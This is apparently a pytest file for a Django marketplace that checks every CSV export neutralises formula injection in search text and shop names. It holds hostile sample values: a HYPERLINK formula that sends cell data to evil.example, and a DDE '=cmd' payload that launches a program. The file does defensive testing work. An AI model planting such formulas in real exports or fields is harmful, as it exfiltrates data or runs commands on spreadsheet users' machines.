"""Finding 4, CSV formula injection: anonymous search text and shop names reach the city's CSV exports;
a cell starting with a formula sign must arrive as text, in every CSV the site writes."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.contrib.auth.models import Group
from django.test import Client
from django.utils import timezone

from marketplace import spreadsheet
from marketplace.models import SearchEvent
from marketplace.services.roles import roles_setup
from tests.factories import ShopFactory, UserFactory

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.fixture
def city_client(client: Client) -> Client:
    roles_setup()
    editor = UserFactory(username="stadtmarketing", is_staff=True)
    editor.groups.add(Group.objects.get(name="City editors"))
    client.force_login(editor)
    return client


def _rows(body: bytes, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=delimiter))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_cell_is_written_as_text(value):
    # when
    buffer = io.StringIO()
    spreadsheet.writer(buffer, delimiter=";").writerow([value, 5, -3, "Kaffee"])
    # then
    assert _rows(buffer.getvalue().encode())[0] == ["'" + value, "5", "-3", "Kaffee"]


def test_the_insights_export_neutralises_search_text(city_client):
    # given: a resident searched for a formula (no result)
    SearchEvent.objects.create(
        query="=cmd|'/c calc'!A1", result_count=0, created_at=timezone.now() - timedelta(hours=1)
    )
    # when
    export = city_client.get("/admin/marketplace/searchevent/insights/?days=7&export=zero")
    # then
    rows = _rows(export.content)
    assert rows[1][0].startswith("'=")


def test_the_data_health_exports_neutralise_shop_names(city_client):
    # given: a shop registered with a formula as its name
    ShopFactory(name="@SUM(1+1)*cmd")
    # when
    admin_export = city_client.get("/admin/marketplace/healthsnapshot/?export=csv")
    # then
    names = [row[0] for row in _rows(admin_export.content)[1:]]
    assert names == ["'@SUM(1+1)*cmd"]
